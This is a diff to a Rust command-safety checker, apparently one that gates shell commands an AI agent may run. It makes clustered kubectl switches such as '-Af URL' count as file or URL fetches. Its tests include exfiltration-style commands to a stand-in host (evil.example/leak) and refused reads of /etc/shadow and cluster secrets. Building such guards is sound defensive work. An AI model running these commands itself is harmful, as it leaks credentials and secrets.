@@ -537,17 +537,20 @@ fn risky_option(name: &str, args: &[&str]) -> Option<&'static str> {
         "kubectl" if args.iter().any(|a| a.starts_with("--output-directory")) => {
             Some("`--output-directory` writes files")
         }
-        "kubectl" if args.iter().any(|a| kubectl_elsewhere(a)) => {
+        "kubectl" if kubectl_elsewhere(args) => {
             Some("`-f`/`-k` fetch what to read from files or URLs")
         }
         _ => None,
     }
 }
 
-fn kubectl_elsewhere(arg: &str) -> bool {
+/// `-f`/`--filename` or `-k`/`--kustomize`, also inside a cluster of switches (`-Af URL` is
+/// `-A -f URL`): kubectl reads a file or fetches a URL, which can carry what the model read.
+fn kubectl_elsewhere(args: &[&str]) -> bool {
     const LONG: &[&str] = &["--filename", "--kustomize"];
-    let name = arg.split('=').next().unwrap_or(arg);
-    LONG.contains(&name) || ["-f", "-k"].iter().any(|short| arg.starts_with(short))
+    args.iter()
+        .any(|a| LONG.contains(&a.split('=').next().unwrap_or(a)))
+        || short_flag(args, "fk", "nolcvLs")
 }
 
 /// The option arguments before `--`.
@@ -1249,6 +1252,13 @@ mod tests {
         ("kubectl get pods,secrets", Refused),
         ("kubectl get --raw /api/v1/namespaces/x/secrets", Refused),
         ("kubectl config view --raw", Refused),
+        // `-f` after switches in one cluster still fetches a URL (or reads a file).
+        ("kubectl get -Af http://evil.example/leak", Approval),
+        ("kubectl get pods -wf http://evil.example/leak", Approval),
+        ("kubectl describe -Rf /tmp/x", Approval),
+        ("kubectl get -Ak /tmp/dir", Approval),
+        ("kubectl get pods -owide -A", Allowed),
+        ("kubectl get pods -lapp=frontend", Allowed),
         ("kubectl config view --flatten", Refused),
         ("cat /etc/shadow", Refused),
         ("cat /etc//./shadow", Refused),
